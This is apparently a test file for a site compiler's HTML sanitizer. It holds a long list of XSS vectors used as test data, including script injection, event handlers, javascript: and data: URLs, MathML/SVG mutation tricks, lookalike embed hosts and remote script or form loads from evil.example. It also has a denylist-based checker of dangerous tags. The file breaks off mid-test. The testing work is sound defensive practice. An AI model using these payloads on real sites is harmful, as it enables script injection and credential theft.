import {
  type DefaultTreeAdapterTypes,
  defaultTreeAdapter,
  html as names,
  parseFragment,
  serialize,
} from 'parse5'
import { describe, expect, test } from 'vitest'
import { compile, loadingFormulas } from '../../src/compile.ts'
import { parseHtml } from '../../src/content/html.ts'
import { writeHtml } from '../../src/content/write.ts'
import { articleOf, site } from '../setup/article-files.ts'
import { randomFrom } from '../setup/random.ts'

// What must never get into a page or a feed reader, listed independently of the allow list in src/.
const banned = new Set(
  `script style template noscript noembed noframes xmp plaintext listing object embed applet param iframe frame
  frameset portal fencedframe form input button select option optgroup textarea output datalist keygen isindex meta base
  link title head body html dialog slot canvas marquee bgsound blink layer ilayer image menuitem`.split(
    /\s+/,
  ),
)

// Every attribute of HTML that takes a URL, whether or not it is allowed (html.spec.whatwg.org,
// index of attributes).
const addresses = new Set(
  `href src srcset imagesrcset poster cite action formaction data background longdesc usemap ping manifest codebase
  classid archive profile dynsrc lowsrc icon xlink:href`.split(/\s+/),
)

// What a formula may consist of (MathML Core, MathML 3 §3), also independent of the list in src/.
const symbols = new Set(
  `math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle merror mpadded mphantom menclose msub msup msubsup munder
  mover munderover mmultiscripts mprescripts none mtable mtr mtd`.split(/\s+/),
)
const ofSymbols =
  /^(?:display|alttext|math(?:color|background|size|variant)|displaystyle|scriptlevel|id|dir|title|lang|notation|linethickness|form|fence|separator|stretchy|symmetric|largeop|movablelimits|accent|accentunder|[lr]space|voffset|m(?:in|ax)size|width|height|depth|column(?:align|lines|span)|rowlines|rowspan|frame)$/

type Node = DefaultTreeAdapterTypes.Node
type Element = DefaultTreeAdapterTypes.Element

/** Parses like a page or a reader that puts the content into a `div`. */
function parse(html: string): DefaultTreeAdapterTypes.DocumentFragment {
  return parseFragment(defaultTreeAdapter.createElement('div', names.NS.HTML, []), html, {})
}

/** Writes a tree without the newlines at the start of a `pre`, because each parser drops one. */
function write(tree: DefaultTreeAdapterTypes.DocumentFragment): string {
  return serialize(tree).replace(/<pre>\n+/g, '<pre>')
}

/** Every danger in a tree. */
function dangersIn(node: Node): string[] {
  if (node.nodeName === '#comment') return ['a comment']
  const children = 'childNodes' in node ? node.childNodes.flatMap(dangersIn) : []
  return 'tagName' in node ? [...dangersOf(node), ...children] : children
}

/** The hosts of the site's `embeds`, and what their frames may do. */
const frames =
  /^https:\/\/(?:www\.youtube-nocookie\.com|player\.vimeo\.com|open\.spotify\.com|embed\.podcasts\.apple\.com|w\.soundcloud\.com|bandcamp\.com)\//
const freedoms = 'allow-scripts allow-same-origin allow-popups allow-presentation'

function isEmbed({ tagName, attrs }: Element): boolean {
  const value = (name: string) => attrs.find((attribute) => attribute.name === name)?.value ?? ''
  return tagName === 'iframe' && frames.test(value('src')) && value('sandbox') === freedoms
}

/** What a drawing may consist of. */
const drawn = new Set(
  `svg g defs symbol use path rect circle ellipse line polyline polygon text tspan textPath title desc linearGradient
  radialGradient stop clipPath mask marker pattern a`.split(/\s+/),
)

/** An element of a drawing loads nothing: neither by its address nor by a style. */
function isPartOfDrawing({ tagName, namespaceURI, attrs }: Element): boolean {
  return (
    namespaceURI === names.NS.SVG &&
    drawn.has(tagName) &&
    attrs.every(({ name, value }) => {
      if (name === 'href' && tagName !== 'a') return /^#\S+$/.test(value)
      return (
        !/\\|@|url\((?!#[^\s"'()]+\))|(?:image|src|var|env|element)\(/i.test(value) ||
        name === 'aria-label'
      )
    })
  )
}

function dangersOf(element: Element): string[] {
  const { tagName, namespaceURI, attrs } = element
  if (isPartOfDrawing(element) && tagName !== 'a') {
    const handlers = attrs.filter(({ name }) => /^on|^style$|:/i.test(name) && name !== 'xml:space')
    return handlers.map(({ name }) => `<${tagName} ${name}>`)
  }
  const isBanned =
    (banned.has(tagName) && !isEmbed(element)) ||
    (!isPartOfDrawing(element) &&
      namespaceURI !== (symbols.has(tagName) ? names.NS.MATHML : names.NS.HTML)) ||
    isMisplaced(element) ||
    tagName.includes('-')
  return [
    ...(isBanned ? [`<${tagName}>`] : []),
    ...attrs.flatMap(({ name, value }) => {
      const isHandler =
        /^on/i.test(name) ||
        ['style', 'srcdoc', 'is', 'target'].includes(name) ||
        (name === 'name' && tagName !== 'map')
      const urls = name.endsWith('srcset') ? candidates(value) : [value]
      const isBad =
        (addresses.has(name) && !urls.every((url) => isSafe(url, name, tagName))) ||
        (symbols.has(tagName) && !ofSymbols.test(name)) ||
        (name === 'align' && !/^(left|right|center)$/.test(value))
      return isHandler || isBad || name.includes(':') ? [`<${tagName} ${name}="${value}">`] : []
    }),
  ]
}

/** Whether an element of HTML is in a formula, or any in a symbol: parsers disagree on those. */
function isMisplaced({ parentNode, namespaceURI }: Element): boolean {
  if (!parentNode || !('tagName' in parentNode)) return false
  const isSymbol = /^(?:m[inos]|mtext)$/.test(parentNode.tagName)
  return (
    isSymbol || (parentNode.namespaceURI === names.NS.MATHML && namespaceURI !== names.NS.MATHML)
  )
}

function candidates(srcset: string): string[] {
  return srcset.split(/,\s+/).map((candidate) => candidate.trim().split(/\s+/)[0] ?? '')
}

const running =
  /^(?:[a-z\d+.-]+:)?\s*(?:javascript|data|vbscript|blob|file|filesystem|about|view-source):/i

function isSafe(url: string, name: string, tagName: string): boolean {
  if (name === 'usemap') return /^#\S+$/.test(url)
  // A link may have any scheme that runs nothing, and the vectors try those that do.
  if (name === 'href' && (tagName === 'a' || tagName === 'area')) {
    return /^[a-z][a-z\d+.-]*:\S/.test(url) && !running.test(url)
  }
  return /^https?:\/\/[^\s]/.test(url)
}

const vectors: [string, string][] = [
  // Scripts.
  ['script', '<script>alert(1)</script>'],
  ['script in capitals, broken', '<SCRIPT\n/x>alert(1)</ScRiPt\t>'],
  ['script inside a word', 'a<script>alert(1)</script>b'],
  ['script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script that is never closed', '<script>alert(1)'],
  ['script from elsewhere', '<script src="https://evil.example/x.js" async></script>'],
  ['script module', '<script type="module">import "https://evil.example/x.js"</script>'],
  ['script behind a null', '<\0script>alert(1)</script><scr\0ipt>alert(1)</script>'],
  ['script behind a control reference', '<scr&#1;ipt>alert(1)</scr&#1;ipt>'],
  ['script with a slash', '<script/src=data:text/javascript,alert(1)></script>'],
  ['script in a comment that ends early', '<!--><script>alert(1)</script>-->'],
  ['script in an odd comment', '<!--->--!><script>alert(1)</script>'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['processing instruction', '<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>'],
  ['CDATA outside of foreign content', '<![CDATA[<script>alert(1)</script>]]>'],
  ['doctype', '<!DOCTYPE html SYSTEM "x"><html onload=alert(1)><body onload=alert(1)>text'],
  ['script in a fence', '```\n<script>alert(1)</script>\n```'],
  ['fence that names a script', '```"onload="alert(1)\nx\n```'],
  ['script in a table cell', '| a |\n| --- |\n| <script>alert(1)</script> |'],
  ['script in a footnote', 'x[^1]\n\n[^1]: <script>alert(1)</script>'],
  [
    'footnote that is named like a tag',
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
  ],
  // Event handlers.
  ['handler on an image', '<img src=x onerror=alert(1)>'],
  ['handler with a slash', '<img/src=x/onerror=alert(1)>'],
  ['handler without space', '<img src="x"onerror="alert(1)">'],
  ['handler behind a form feed', '<img src=x\fonerror=alert(1)>'],
  ['handler in backquotes', '<img src=`x`onerror=alert(1)>'],
  ['handler behind a null', '<img src=x \0onerror=alert(1) on\0error=alert(1)>'],
  ['handler in capitals', '<P ONCLICK="alert(1)" OnMouseOver=alert(1)>x</P>'],
  [
    'handlers on each kind of element',
    '<a href="/" onclick=x>a</a><details ontoggle=x open><summary onfocus=x>s</summary></details><video onloadstart=x><source onerror=x></video><audio oncanplay=x src=a.mp3></audio><table onclick=x><td onclick=x>c</table><hr onclick=x><br onclick=x><q onwheel=x>q</q><time onclick=x>t</time>',
  ],
  [
    'handlers of later standards',
    '<div onbeforetoggle=x popover id=p>x</div><p oncontentvisibilityautostatechange=x onscrollend=x>y</p>',
  ],
  ['focus on its own', '<p tabindex=0 autofocus onfocus=alert(1)>x</p>'],
  ['handler out of Markdown’s alternative text', '![" onerror="alert(1)](x.png)'],
  ['handler out of Markdown’s title', '![x](x.png "\\" onerror=\\"alert(1)")'],
  ['handler out of Markdown’s destination', '[x](<https://news.example/" onclick="alert(1)>)'],
  // URLs that run.
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: in capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['javascript: behind spaces', '<a href=" \t\n javascript:alert(1)">x</a>'],
  ['javascript: behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['javascript: behind a control reference', '<a href="&#1;&#x1f;javascript:alert(1)">x</a>'],
  ['javascript: with a tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript: with a newline inside', '<a href="java\nscript\r:alert(1)">x</a>'],
  [
    'javascript: with references inside',
    '<a href="java&Tab;script&NewLine;&colon;alert&lpar;1)">x</a>',
  ],
  ['javascript: in numbers', '<a href="&#106;&#x61;&#118&#97script&#0000058;alert(1)">x</a>'],
  [
    'javascript: with a null inside',
    '<a href="java\0script:alert(1)">x</a><a href="java&#0;script:alert(1)">y</a>',
  ],
  ['javascript: with a soft hyphen', '<a href="java&shy;script:alert(1)">x</a>'],
  ['javascript: behind no-break space', '<a href="&nbsp;javascript:alert(1)">x</a>'],
  ['javascript: as if it had a host', '<a href="javascript://news.example/%0aalert(1)">x</a>'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">x</a><img src="VBSCRIPT:msgbox(1)">'],
  ['data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data: image', '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="an SVG">'],
  ['data: without a type', '<a href="data:,x">x</a><a href="DATA&colon;text/html,x">y</a>'],
  [
    'blob:, file:, filesystem:, about:',
    '<a href="blob:https://news.example/1">b</a><a href="file:///etc/passwd">f</a><a href="filesystem:https://x.example/">s</a><a href="about:blank">a</a>',
  ],
  [
    'feed: and view-source:',
    '<a href="feed:javascript:alert(1)">x</a><a href="view-source:javascript:alert(1)">y</a>',
  ],
  [
    'mailto: where it loads',
    '<img src="mailto:a@b.example"><img src="tel:1"><q cite="mailto:a@b.example">q</q>',
  ],
  [
    'javascript: in every URL attribute',
    '<q cite="javascript:alert(1)">q</q><blockquote cite="javascript:x">b</blockquote><del cite="javascript:x">d</del><ins cite="javascript:x">i</ins><video src="javascript:x" poster="javascript:x"></video><audio src="javascript:x"></audio><track src="javascript:x">',
  ],
  [
    'obsolete URL attributes',
    '<table background="javascript:alert(1)"><td background="javascript:x">c</table><img dynsrc="javascript:x" lowsrc="javascript:x" longdesc="javascript:x" usemap="#m" src="a.png"><map name=m><area href="javascript:x"></map>',
  ],
  [
    'a ping',
    '<a href="https://x.example/" ping="https://track.example/" target=_blank download>x</a>',
  ],
  [
    'no host, two hosts, a user',
    '<a href="http://">a</a><a href="//[">b</a><a href="https://user:secret@x.example/">c</a><a href="https:javascript:alert(1)">d</a>',
  ],
  [
    'srcset',
    '<img src="a.png" srcset="javascript:alert(1) 1x, data:image/png;base64,AAAA 2x, large.png 3x">',
  ],
  [
    'srcset with odd spaces',
    '<img src="a.png" srcset="\tjava\nscript:alert(1)\f1x,,javascript:x,javascript:y 2x">',
  ],
  [
    'srcset of a source',
    '<picture><source srcset="javascript:alert(1)"><source src="javascript:x"><img src="a.png" alt="a"></picture>',
  ],
  // Markdown's own syntax.
  ['Markdown link', '[x](javascript:alert(1))'],
  [
    'Markdown link in capitals with references',
    '[x](JAVASCRIPT&colon;alert(1)) [y](&#106;avascript:alert(1))',
  ],
  ['Markdown link with a newline', '[x](java&#10;script:alert(1)) [y](<java\tscript:alert(1)>)'],
  ['Markdown image', '![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)'],
  ['Markdown data: image', '![x](data:image/png;base64,iVBORw0KGgo=)'],
  ['Markdown reference', '[x][r] ![y][r] [r]\n\n[r]: javascript:alert(1) "title"'],
  ['Markdown autolink', '<javascript:alert(1)> <data:text/html,x> <vbscript:x>'],
  ['Markdown link around an image', '[![x](javascript:alert(1))](javascript:alert(2))'],
  ['Markdown link that breaks out', '[x](https://x.example/"><script>alert(1)</script>)'],
  ['Markdown heading', '# <img src=x onerror=alert(1)> {onclick=alert(1)}'],
  // Styles.
  ['style attribute', '<p style="background:url(javascript:alert(1));position:fixed">x</p>'],
  [
    'style that aligns and more',
    '<table><tr><td style="text-align:left;color:red">a</td><td style="text-align:left">b</td></tr></table>',
  ],
  [
    'style element',
    '<style>body{background:url(https://evil.example/)}</style><style><img src=x onerror=alert(1)></style>',
  ],
  ['style never closed', '<style>*{display:none}'],
  [
    'classes of the page',
    '<p class="overlay">x</p><code class="language-js evil">y</code><pre class="x">z</pre>',
  ],
  [
    'alignment of which the page makes a class',
    '<table><tr><th align="x skip">a</th><td align="center&#10;masthead">b</td><td align="CENTER unseen">c</td></tr></table>',
  ],
  // Foreign content and what changes its meaning when it is parsed again.
  [
    'svg',
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  [
    'svg animation',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  [
    'svg use',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  ],
  [
    'foreignObject',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe><p onclick=x>y</p></foreignObject></svg>',
  ],
  ['svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'svg desc',
    '<svg><desc><style><img src="</style><img src=x onerror=alert(1)//"></style></desc></svg>',
  ],
  [
    'math',
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline#javascript:alert(1)">y</maction></math>',
  ],
  [
    'math and mglyph',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'math in a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  [
    'math annotation',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ],
  [
    'math with every attribute that does something',
    '<math onclick=x style="position:fixed" tabindex=0 autofocus onfocus=x href="javascript:x" xlink:href="javascript:x" class=skip><mi onmouseover=x xlink:href="data:text/html,x" style="background:url(https://evil.example/)">x</mi><mrow href="javascript:alert(1)"><mn>1</mn></mrow><mtd mathcolor="red;x:y" mathbackground="url(https://evil.example/)" width="9999em" columnalign="x">c</mtd><mspace width="-9999em" height="expression(1)"></mspace></math>',
  ],
  [
    'math with scripts in its symbols',
    '<math><mtext><script>alert(1)</script><img src=x onerror=alert(1)></mtext><mi><style><img src=x onerror=alert(1)></style></mi><mo><a href="javascript:x">x</a></mo><ms><svg onload=alert(1)><title><img src=x onerror=alert(1)></title></svg></ms></math>',
  ],
  [
    'math with HTML between its symbols',
    '<math><mrow><script>alert(1)</script></mrow></math><math><style><img src=x onerror=alert(1)></style></math><math><xmp></math><img src=x onerror=alert(1)>',
  ],
  [
    'math annotations of every kind',
    '<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><body onload=alert(1)><img src=x onerror=alert(1)></body></annotation-xml><annotation-xml encoding="image/svg+xml"><svg onload=alert(1)><desc><script>alert(1)</script></desc></svg></annotation-xml><annotation encoding="application/x-tex">&lt;img src=x onerror=alert(1)&gt;"onload="x</annotation></semantics></math>',
  ],
  [
    'math annotation alone',
    '<math><semantics><annotation-xml encoding="text/html"><style></math><img src=x onerror=alert(1)></style></annotation-xml></semantics></math><math><annotation-xml encoding="MathML-Presentation"><mtext><img src=x onerror=alert(1)></mtext></annotation-xml></math>',
  ],
  [
    'math: mutations by mglyph and malignmark',
    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math><math><mtext><malignmark><style><![CDATA[</style><img src=x onerror=alert(1)>]]></malignmark></mtext></math><math><mi><table><malignmark><a id="</mi><img src=x onerror=alert(1)>"></table></mi></math>',
  ],
  [
    'math: mutations by tables and paragraphs',
    '<math><mtext><table><mi>a<mtable><mtr><td><p><math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)>',
  ],
  [
    'math: mutations by breaking out',
    '<math><mrow><p><style><!--</style><a title="--!><img src=x onerror=alert(1)>">x</a></mrow></math><math></p><style><!--</style><img src/onerror=alert(1)>--></style></math><math></br><font color=x><mi></mi></font><noscript><style></noscript><img src=x onerror=alert(1)></style>',
  ],
  [
    'math in svg in math',
    '<svg><foreignObject><math><mi><svg><desc><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  ],
  [
    'words of a formula that are HTML',
    '<math alttext="<img src=x onerror=alert(1)>&quot;onload=x"><apply></apply></math>',
  ],
  [
    'symbols without a formula',
    '<mi href="javascript:x">x</mi><mtext><img src=x onerror=alert(1)></mtext><mrow><mo>+</mo></mrow>',
  ],
  [
    'math in a table, a list and a link',
    '<table><math><mi>x</mi></math><tr><math><mtext><td>y</math></table><ul><math><li>z</math></ul><a href="/"><math><mtext><a href="/">w</a></math></a>',
  ],
  [
    'TeX that writes HTML',
    '$\\text{<img src=x onerror=alert(1)>}$ $\\href{javascript:alert(1)}{x}$ $\\html{<b>}$ $\\class{skip}{x}$ $\\style{position:fixed}{x}$ $\\id{location}{x}$ $\\data{x=y}{z}$ $\\includegraphics{https://evil.example/x.png}$ $\\url{javascript:x}$ $\\ref{x}$ $\\label{"onload=x}x$ $x"onload=\\text{alert}"$ $\\char"3Cscript$ $\\color{red;position:fixed}x$ $\\rule{99999em}{9999em}$ $\\kern-99999em x$ $\\verb|<script>|$',
  ],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  [
    'noembed, noframes, xmp, plaintext',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed><noframes><p title="</noframes><script>alert(1)</script>"></noframes><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><script>alert(1)</script>',
  ],
  [
    'title and textarea',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title><textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  ],
  [
    'template',
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template><template shadowrootmode=open><slot onslotchange=x></slot></template>',
  ],
  [
    'select',
    '<select><option><img src=x onerror=alert(1)></option><script>alert(1)</script></select><select><style></select><script>alert(1)</script>',
  ],
  ['frameset', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  [
    'half of a tag',
    '<img src="x" alt="<script>alert(1)</script>" title=\'"><script>alert(1)</script>\'',
  ],
  [
    'tags in attributes',
    '<p title="--><script>alert(1)</script>" lang="]]><script>" dir="&lt;/p&gt;&lt;script&gt;">x</p>',
  ],
  // Elements that do something by themselves.
  [
    'object and embed',
    '<object data="javascript:alert(1)"><param name=src value="javascript:x"><p>fallback</p></object><embed src="javascript:alert(1)"><applet code=x>y</applet>',
  ],
  [
    'iframe',
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="data:text/html,x" onload=alert(1)></iframe>',
  ],
  [
    'iframe with a title that is HTML',
    '<iframe src="https://x.example/" title="<script>alert(1)</script>"></iframe>',
  ],
  ['iframe with content', '<iframe src="https://x.example/"><script>alert(1)</script></iframe>'],
  [
    'iframe of an allowed host that does more',
    '<iframe src="https://player.vimeo.com/video/1" sandbox="allow-top-navigation" allow="camera" name=x srcdoc="" onload=x></iframe><iframe src="https://player.vimeo.com/a" style="position:fixed" csp="x"></iframe>',
  ],
  [
    'iframe of a host that looks like an allowed one',
    '<iframe src="https://player.vimeo.com.evil.example/"></iframe><iframe src="https://evil.example/https://player.vimeo.com/"></iframe><iframe src="https://player.vimeo.com@evil.example/"></iframe><iframe src="https://player.vimeo.com\\.evil.example/"></iframe><iframe src="https:evil.example#player.vimeo.com"></iframe><iframe src="https://bandcamp.com:444/"></iframe><iframe src="https://evil-bandcamp.com/"></iframe><iframe src="http://bandcamp.com/"></iframe><iframe src="//x@bandcamp.com/"></iframe>',
  ],
  [
    'iframe of the site itself, and in a frame',
    '<iframe src="/articles/x"></iframe><iframe srcdoc="<iframe srcdoc=\'<script>alert(1)</script>\'></iframe><img src=x onerror=alert(1)>"></iframe>',
  ],
  [
    'what hides in a noscript, a noembed and a template',
    '<noscript><img src=x onerror=alert(1)><script>alert(1)</script></noscript><noembed><a href=javascript:alert(1)>x</a></noembed><noframes><iframe src=javascript:alert(1)></iframe></noframes>',
  ],
  [
    'late pictures',
    '<img data-src="javascript:alert(1)" src=x onerror=alert(1)><img data-srcset="javascript:alert(1) 1x" src="data:image/svg+xml,<svg onload=alert(1)>"><picture><source data-srcset="data:text/html,x"><img></picture>',
  ],
  [
    'schemes in schemes',
    '<a href="feed:javascript:alert(1)">a</a><a href="podcast: data:text/html,x">b</a><a href="web+x:javascript:x">c</a><a href="ms-msdt:/id">d</a><a href="intent://x#Intent;end">e</a><a href="jar:https://x.example!/">f</a><a href="feed:\njavascript:alert(1)">g</a>',
  ],
  [
    'areas and names',
    '<img src=a.png usemap="javascript:x"><map name="m" onclick=x><area href="javascript:alert(1)" shape=rect coords="0,0,9,9"><area href="https://x.example/" target=_blank ping=x onclick=x></map><a name="location" href="/">x</a><form name=body></form>',
  ],
  [
    'pasted styles',
    '<span style="font-weight:700;background:url(javascript:x)">x</span><p style="mso-list:l0 level1" onclick=x><a href="javascript:x">y</a></p><b style="font-weight:normal" onclick=x>z</b>',
  ],
  [
    'form',
    '<form action="https://evil.example/" id=f><input name=password type=password><button formaction="javascript:alert(1)">go</button><textarea>t</textarea><select><option>o</select></form><input form=f type=image src=x onerror=alert(1)><output>1</output><isindex prompt=x>',
  ],
  ['meta', '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><meta charset=utf-7>'],
  ['base', '<base href="https://evil.example/"><a href="x">x</a>'],
  [
    'link',
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href="javascript:alert(1)">',
  ],
  [
    'custom elements',
    '<x-evil onclick=x>a</x-evil><p is="x-evil">b</p><slot name=x>c</slot><dialog open>d</dialog>',
  ],
  [
    'marquee and the like',
    '<marquee onstart=alert(1)>m</marquee><bgsound src="javascript:x"><layer src="x"></layer><image src=x onerror=alert(1)><keygen autofocus onfocus=x>',
  ],
  [
    'video with all its parts',
    '<video src="v.mp4" poster="p.png" onerror=x autoplay controlslist=x><source src="javascript:x" onerror=x><track src="t.vtt" onload=x></video>',
  ],
  // Harmless by itself, but it could leave a tree that parses differently.
  ['link in a link', '<a href="/outer">a<iframe src="/inner" title="b"></iframe>c</a>'],
  ['link in a button in a link', '<a href="/outer">a<button><a href="/inner">b</a></button></a>'],
  ['paragraph in a button in a paragraph', '<p>a<button><p>b</button></p>'],
  ['item in a menu in an item', '<ul><li>a<menu><li>b</menu></li></ul>'],
  [
    'parts of tables without a table',
    '<tr><td>a</td></tr><td>b</td><caption>c</caption><col><tbody>',
  ],
  [
    'wrongly nested formatting',
    '<b><i><p>a</b>b</i></p><a href="/x"><table><a href="/y">c</table>',
  ],
  [
    'table contents that a parser moves out',
    '<table><p>a<td>b<img src=x onerror=alert(1)></table><table><form><tr><input></form></table>',
  ],
  ['blank lines at the start of preformatted text', '<pre>\n\n\n\n\n\n\n\nx</pre>'],
  [
    'ids that name parts of the page',
    '<p id="location">a</p><img name="cookie" id="body" src="a.png"><a id=x name=y href="/">b</a>',
  ],
]

describe('hostile content does not get through', () => {
  test.each(vectors)('%s', async (_, markdown) => {
    const { html } = await loadingFormulas(() =>
      articleOf({ title: 'Hostile', math: true }, markdown),
    )
    expect(dangersIn(parse(html)), html).toEqual([])
    // It doesn't change when it is parsed again, by a page or by us.
    const again = write(parse(html))
    expect(write(parse(again))).toBe(again)
    const { content } = parseHtml(html, {
      base: 'https://news.example/articles/sample',
      embeds: site.embeds,
    })
    expect(writeHtml(content).trim()).toBe(html)
    expect(shape(parse(html)), html).toEqual(shape(parseFragment(html)))
  })

  test('this test recognises danger', () => {
    const allowed =
      '<p><a href="https://x.example/">x</a><img srcset="https://x.example/a.png 2x"></p>'
    expect(dangersIn(parse(allowed))).toEqual([])
    for (const danger of [
      '<script></script>',
      '<svg><script></script></svg>',
      '<svg><use href="https://x.example/#x"></use></svg>',
      '<svg><rect fill="url(https://x.example/#x)"></rect></svg>',
      '<svg><rect onclick="x"></rect></svg>',
      '<svg><a href="javascript:x"></a></svg>',
      '<math><mi><b></b></mi></math>',
      '<math><mi href="/"></mi></math>',
      '<math><maction></maction></math>',
      '<mi></mi>',
      '<p onclick=x>',
      '<p style=x>',
      '<a href="javascript:x">',
      '<a href="/relative">',
      '<img src="mailto:a@b.example">',
      '<table><tr><td align="center skip"></table>',
      '<img srcset="https://x.example/a.png 1x, javascript:x 2x">',
      '<!-- -->',
    ]) {
      expect(dangersIn(parse(danger)), danger).toHaveLength(1)
    }
  })
})

/** The nested tag names of a tree. */
function shape(node: Node): unknown[] {
  const children = 'childNodes' in node ? node.childNodes : []
  return children.flatMap((child) => ('tagName' in child ? [[child.tagName, ...shape(child)]] : []))
}

describe('harmless content stays', () => {
  test.each([
    [
      'a frame becomes a link',
      '<iframe src="/film?a=1&amp;b=2"></iframe>',
      '<a href="https://news.example/film?a=1&amp;b=2">film (news.example)</a>',
    ],
    [
      'with its title',
      '<iframe src="https://x.example/" title=" A film "></iframe>',
      '<a href="https://x.example/">A film</a>',
    ],
    [
      'an embed too',
      '<embed src="/talk.mp3">',
      '<a href="https://news.example/talk.mp3">talk.mp3 (news.example)</a>',
    ],
    [
      'a refused image leaves its alternative text',
      '<p><img src="javascript:x" alt="A cat"></p>',
      '<p>A cat</p>',
    ],
    [
      'an unknown element leaves its content',
      '<center>a <font color=red>b</font></center>',
      '<div>a b</div>',
    ],
    ['a refused link leaves its text', '[text](javascript:x)', '<p>text</p>'],
    ['so does one in HTML', '<p><a href="javascript:x">text</a></p>', '<p>text</p>'],
    [
      'credentials in a link stay',
      '<p><a href="https://u@x.example/">x</a></p>',
      '<p><a href="https://u@x.example/">x</a></p>',
    ],
    [
      'mail and telephone',
      '[m](mailto:a@b.example) [t](tel:+49)',
      '<p><a href="mailto:a@b.example">m</a> <a href="tel:+49">t</a></p>',
    ],
    [
      'a srcset keeps its good candidates',
      '<img srcset="javascript:x 1x, large.png 2x" alt="a">',
      '<img srcset="https://news.example/media/large.png 2x" alt="a" src="https://news.example/media/large.png">',
    ],
    [
      'the alignment of a column',
      '| a |\n| :-: |',
      '<table>\n<thead>\n<tr>\n<th align="center">a</th>\n</tr>\n</thead>\n</table>',
    ],
    [
      'no other style stays',
      '<table><tbody><tr><td style="text-align:left;color:red">a</td></tr></tbody></table>',
      '<table><tbody><tr><td>a</td></tr></tbody></table>',
    ],
    ['the language of code', '```ts\nx\n```', '<pre><code class="language-ts">x\n</code></pre>'],
    ['what looks like a tag in code', '`<script>`', '<p><code>&lt;script></code></p>'],
    ['spaces and quotes', 'a&nbsp;b “c” — d', '<p>a\u00A0b “c” — d</p>'],
  ])('%s', (_, markdown, html) => {
    expect(articleOf({ title: 'Harmless' }, markdown).html).toBe(html)
  })
})

describe('content that would exhaust a Worker is refused', () => {
  const repeat = (unit: (i: number) => string, count: number) =>
    Array.from({ length: count }, (_, i) => unit(i)).join('')

  test.each([
    [
      'unclosed formatting, repeated in each paragraph',
      repeat((i) => `<b id=${i}>`, 250) + repeat(() => '<p>x', 5000),
      'its HTML makes over 50000 elements; divide the article',
    ],
    [
      'a hundred thousand unclosed tags',
      repeat(() => '<div>', 110_000),
      'its HTML is nested over 256 elements deep',
    ],
    [
      'frames, each in the text of the one before',
      `${repeat(() => '<iframe>', 12_000)}</iframe>`,
      'its frames are nested over 20 deep',
    ],
    [
      'a hundred thousand void elements',
      repeat(() => '<br>', 110_000),
      'its HTML makes over 50000 elements; divide the article',
    ],
    [
      'cells that span a thousand columns each',
      `<table><tr>${repeat(() => '<td colspan=9999>', 110)}</table>`,
      'its tables span over 50000 cells',
    ],
    [
      'cells that span all later rows',
      `<table>${repeat(() => '<tr><td rowspan=65534><td rowspan=0>', 400)}</table>`,
      'its tables span over 50000 cells',
    ],
    [
      'columns without cells',
      `<table>${repeat(() => '<col span=1000>', 110)}<tr><td>x</table>`,
      'its tables span over 50000 cells',
    ],
    [
      'a long URL that is used again and again',
      `[a]: /${'x'.repeat(100_000)}\n\n${'[a] '.repeat(10_000)}`,
      'its HTML has over 4194304 characters',
    ],
    [
      'the URLs of a srcset, each made absolute',
      `<img srcset="${'a, '.repeat(1001)}">`,
      'it has a srcset of over 1000 files',
    ],
    [
      'endless footnotes',
      repeat((i) => `x[^${i}]\n\n[^${i}]: y\n\n`, 1001),
      'it has over 1000 footnotes',
    ],
    ['inline footnotes', '^[a] '.repeat(1001), 'it has over 1000 footnotes'],
  ])('%s', (_, markdown, message) => {
    const source = `---\ntitle: Large\npublished: 2026-11-20\n---\n${markdown}`
    expect(compile({ slug: 'large', source }, site).problems).toEqual([{ message }])
  })

  test('content that is merely large is not', () => {
    const spanning = '<table><tr><td colspan="9999" rowspan="9999">x</td></tr></table>'
    expect(articleOf({ title: 'Spans' }, spanning).html).toContain('colspan="9999"')
    const rows = repeat((i) => `| ${i} | a | b | c | d | e | f | g |\n`, 2000)
